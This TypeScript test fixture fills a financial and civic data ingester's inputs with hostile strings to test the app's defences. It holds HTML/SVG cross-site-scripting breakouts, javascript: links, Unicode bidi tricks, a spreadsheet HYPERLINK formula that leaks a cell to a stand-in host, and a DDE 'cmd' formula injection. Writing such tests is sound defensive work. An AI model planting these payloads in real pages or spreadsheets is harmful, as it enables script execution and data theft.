import { Batches, ingest, type MemoryFile, sources } from "@daybook/ingest";
import { workbookOf } from "@daybook/ingest/fixtures";
import { openWriter } from "@daybook/store";

/** Breaks out of elements, attributes, SVG, comments and sections where nothing keeps it in; then it leaves a mark on the window. */
export const BREAKOUT = `<script>window.hit="a"</script>"'><img src=x onerror=window.hit="b"></title></svg><svg onload=window.hit="c">--> ]]> &lt;b&gt; &amp;`;
/** Turns the writing, has no width, stands on others, or is of many letters. */
const ODD =
  "\u202egnp.exe\u202c \u2066x\u2069 a\u200bb\u200dc\ufeffd e\u0301\u0323\u0308\u0334 \u{1f469}\u200d\u{1f467} \u2028";
/** What a spreadsheet would run. */
const FORMULA = `=HYPERLINK("https://elsewhere.example/?"&A1,"x")`;
const LINK = `https://elsewhere.example/"onmouseover="window.hit='d'`;
const TODAY = "2026-06-30";

/** A text without a place to break it. */
const long = (length: number) => "W".repeat(length);
/** As much of the hostile text as a field may have. */
const evil = (max: number) => BREAKOUT.slice(0, max);

/** Fills a data folder with files in which every text that the formats let through is hostile. */
export async function fillWithHostileWorld(dataFolder: string): Promise<void> {
  const location = { dataFolder };
  const writer = await openWriter(location, {});
  const batches = new Batches(writer);
  const away: string[] = [];
  for (const [source, inputs] of Object.entries(hostileFiles())) {
    const { files } = await ingest({
      location,
      batches,
      source: sources.find(({ name }) => name === source)!,
      inputs,
      acceptSuspicious: true,
      isDemo: false,
      now: () => new Date(`${TODAY}T12:00:00Z`),
      random: () => 0,
    });
    for (const { name, outcome, reason } of files)
      if (outcome !== "accepted") away.push(`${name} is ${outcome}: ${reason?.slice(0, 300)}`);
  }
  await batches.finish();
  await writer.close();
  if (away.length > 0) throw new Error(away.join("\n"));
}

/** The names of companies by their codes. */
const NAMES = {
  AA1: BREAKOUT,
  AA2: long(200),
  AA3: `A ${ODD}`,
  AA4: FORMULA,
  AA5: "@SUM(1+1)*cmd|' /C x'!A0",
} as const;
const CODES = Object.keys(NAMES) as (keyof typeof NAMES)[];

function hostileFiles(): Readonly<Record<string, readonly MemoryFile[]>> {
  return {
    "asx-companies": [
      csv("ASX_Listed_Companies_26-06-2026_07-12-40_AEST.csv", [
        ["ASX code", "Company name", "GICs industry group", "Listing date", "Market Cap"],
        ...CODES.map((code, at) => [code, NAMES[code], at === 1 ? long(200) : evil(100), "19/07/2001", "1756574330"]),
      ]),
    ],
    "asic-shorts": ["22", "23", "24", "25", "26"].map((day, at) => reportOf(`202606${day}`, at)),
    "asx-prices": ["22", "23", "24", "25", "26"].map((day, at) => ({
      fileName: `stock_price_2026_06_${day}.csv`,
      bytes: Buffer.from(
        CODES.map((code) => `${code.toLowerCase()},2026-06-${day},1.0,${1 + at / 10},1.5,0.9,1000.000\n`).join(""),
      ),
    })),
    "asx-announcements": [
      csv("todayAnns_2026-06-25.csv", [
        ["ASX Code", "Date", "Price sens.", "Headline", "Type", "Document"],
        ["AA1", "25/06/2026  4:50 pm", "$", BREAKOUT, evil(100), LINK],
        ["AA1", "25/06/2026  4:40 pm", "$", long(500), ODD.trim(), "https://elsewhere.example/x"],
        ["AA2", "25/06/2026  4:30 pm", "", FORMULA, "", ""],
      ]),
    ],
    "director-trades": [
      csv(`director-trades-${TODAY}.csv`, [
        [
          "id",
          "stock_code",
          "director_name",
          "trade_type",
          "shares_traded",
          "price_per_share",
          "total_value",
          "trade_date",
        ],
        ["1", "AA1", evil(200), "buy", "100", "1", "100", "2026-06-24"],
        ["2", "AA1", FORMULA, evil(60), "100", "1", "100", "2026-06-25"],
        ["3", "AA1", long(200), "sell", "100", "1", "100", "2026-06-25"],
      ]),
    ],
    "company-records": [
      lines(`company-records-${TODAY}.jsonl`, [
        {
          stockCode: "AA1",
          name: evil(300),
          address: evil(300),
          summary: long(10_000),
          details: `${BREAKOUT} ${ODD}`,
          website: LINK,
          tags: [evil(100), long(100)],
          riskFactors: [BREAKOUT, long(10_000)],
          enhancedSummary: BREAKOUT,
          companyHistory: `[x](javascript:window.hit="e") ${BREAKOUT}`,
          competitiveAdvantages: BREAKOUT,
          recentDevelopments: BREAKOUT,
          keyPeople: [{ name: evil(300), role: evil(300), bio: BREAKOUT, linkedinUrl: LINK }],
          financialReports: [{ url: LINK, title: evil(300), type: evil(300), date: "2026-01-01", source: evil(300) }],
          socialMediaLinks: { twitter: LINK },
          enrichmentDate: "2026-06-28T00:00:00Z",
        },
      ]),
    ],
    "reputation-signals": [
      lines(`reputation-signals-x-${TODAY}.jsonl`, [
        {
          stockCode: "AA1",
          polarity: "adverse",
          kind: evil(60),
          headline: BREAKOUT,
          detail: long(10_000),
          eventDate: "2026-01-01",
          citations: [LINK],
        },
      ]),
    ],
    "news-articles": [
      lines(`news-articles-x-${TODAY}.jsonl`, [
        articleOf("1", BREAKOUT, BREAKOUT),
        articleOf("2", long(500), long(10_000)),
        articleOf("3", FORMULA, "-1+1"),
      ]),
    ],
    "news-feeds": [
      {
        fileName: `news-feed-x-${TODAY}.xml`,
        bytes: Buffer.from(`<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>
${[BREAKOUT, long(10_000), ODD].map((title, at) => `<item><guid>${at}</guid><title>${escaped(title)}</title><link>javascript:window.hit="f"</link><description><![CDATA[<script>window.hit="g"</script><b onclick=window.hit="h">bold</b>]]>${escaped(title)}</description><pubDate>Thu, 25 Jun 2026 00:00:00 GMT</pubDate></item>`).join("\n")}
</channel></rss>
`),
      },
    ],
    "editorial-takes": [takeOf("take-one", BREAKOUT), takeOf("take-two", long(300))],
    "abs-suburbs": [
      {
        fileName: "2021Census_geog_desc_1st_2nd_3rd_release.xlsx",
        bytes: workbookOf({
          "2021_ASGS_Non_ABS_Structures": [
            ["ASGS_Structure", "Census_Code_2021", "Census_Name_2021", "Area sqkm"],
            ["SAL", "SAL20001", BREAKOUT, 4.3],
            ["SAL", "SAL20002", long(200), 1.6],
            ["SAL", "SAL20003", FORMULA, 1.6],
          ],
        }),
      },
    ],
    "suburb-layers": [
      csv("suburb-layers-x.csv", [
        ["sal_code", "key", "value", "source", "licence", "as_of"],
        ...[
          "lga_name",
          "federal_division",
          "federal_member",
          "federal_party",
          "state_member",
          "top_religion",
          "top_language",
        ].map((key) => ["20001", key, evil(100), "x", "x", "2026-01-01"]),
        ["20001", "population", "1000", "x", "x", "2026-01-01"],
      ]),
    ],
    "listing-sweeps": [
      lines("listing-sweeps-x.jsonl", [
        ...sweepOn("2026-06-01", 1_000_000),
        ...sweepOn("2026-06-08", 900_000),
        ...sweepOn("2026-06-20", 800_000),
      ]),
    ],
    "parliament-people": [
      csv("people.csv", [
        ["person count", "aph id", "name", "birthday", "alt name"],
        ["1", "Z001", "Ada <b>Fern</b>", "", BREAKOUT],
        ["2", "Z002", long(300), "", ""],
      ]),
    ],
    "parliament-terms": [
      csv("representatives.csv", [
        [
          "member count",
          "person count",
          "name",
          "Division",
          "State/Territory",
          "Date of election",
          "Type of election",
          "Date ceased to be a Member",
          "reason",
          "Most recent party",
        ],
        ["1", "1", "Ada <b>Fern</b>", evil(100), "VIC", "3.5.2025", "", "", "still_in_office", evil(40)],
        ["2", "2", long(300), "Brookvale", "VIC", "3.5.2025", "", "", "still_in_office", "ZZZ"],
      ]),
    ],
    "interests-register": [
      lines("interests-register-x.jsonl", [
        {
          chamber: "house",
          parliament: 48,
          name: "<b>Fern</b>, Ada",
          division: evil(100),
          state: "VIC",
          documentUrl: LINK,
          statementDate: "2025-08-01",
          read: true,
          unreadPages: [],
          rows: [
            rowOf(1, BREAKOUT, BREAKOUT),
            rowOf(2, long(10_000), long(10_000)),
            rowOf(3, FORMULA, ODD),
            rowOf(11, "+1+1", "-1"),
          ],
        },
      ]),
    ],
    "aec-returns": [
      csv("snapshot-2025-10-01/Party Returns.csv", [
        [
          "Financial Year",
          "Name",
          "Party Group",
          "Total Receipts",
          "Total Payments",
          "Total Debts",
          "Total Discretionary Benefits",
        ],
        ...["2021-2022", "2022-2023"].map((year) => [year, BREAKOUT, evil(120), "4280388", "4658282", "0", "0"]),
        ["2022-2023", long(300), long(300), "5", "5", "0", "0"],
      ]),
    ],
  };
}

function reportOf(date: string, at: number): MemoryFile {
  const head =
    "Product,Product Code,Reported Short Positions,Total Product in Issue,% of Total Product in Issue Reported as Short Positions";
  const rows = CODES.map((code, n) => `${quoted(NAMES[code])},${code},${1_000_000 * (at + n)},100000000,${at + n}`);
  return {
    fileName: `RR${date}-001-SSDailyAggShortPos.csv`,
    bytes: Buffer.from([head, ...rows].map((line) => `${line}\r\n`).join("")),
  };
}

function articleOf(id: string, headline: string, summary: string): object {
  const tags = [evil(100)];
  return { id, source: "x", stockCode: "AA1", headline, summary, url: LINK, publishedAt: "2026-06-25T00:00:00Z", tags };
}

function takeOf(slug: string, title: string): MemoryFile {
  const text = `---
title: ${JSON.stringify(title)}
date: 2026-06-25T00:00:00Z
standfirst: ${JSON.stringify(title)}
codes: [AA1]
author: ${JSON.stringify(title)}
citations:
  - { ref: ref-1, url: ${JSON.stringify(LINK)}, source: ${JSON.stringify(title)}, headline: ${JSON.stringify(title)}, date: 2026-06-20, type: data }
---

\`${BREAKOUT}\` ${BREAKOUT.replaceAll("<", "\\<")} [ref-1]

${long(5000)}
`;
  return { fileName: `${slug}.md`, bytes: Buffer.from(text) };
}

function sweepOn(date: string, price: number): object[] {
  const sweep = {
    source: evil(60),
    salCode: "20001",
    suburb: evil(100),
    state: "VIC",
    postcode: "3121",
    at: `${date}T02:00:00Z`,
    complete: true,
  };
  const addresses = [`1 ${evil(200)}`, `2 ${long(290)}`, `3 ${FORMULA}`, "4 Elm St"];
  const sightings = addresses.map((address, at) => ({
    listingId: evil(100) + at,
    url: LINK,
    address,
    priceText: `$${price} ${evil(100)}`,
    status: "for_sale",
    type: evil(100),
    agencyId: evil(100),
    agency: evil(300),
    agents: [evil(200)],
  }));
  return [{ sweep }, ...sightings];
}

function rowOf(item: number, text: string, secondary: string): object {
  return { kind: "statement", item, holders: ["self"], text, secondary, date: "2025-08-01" };
}

function csv(fileName: string, rows: readonly (readonly string[])[]): MemoryFile {
  return { fileName, bytes: Buffer.from(rows.map((cells) => `${cells.map(quoted).join(",")}\n`).join("")) };
}

function lines(fileName: string, objects: readonly object[]): MemoryFile {
  return { fileName, bytes: Buffer.from(objects.map((object) => `${JSON.stringify(object)}\n`).join("")) };
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}

function escaped(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
}
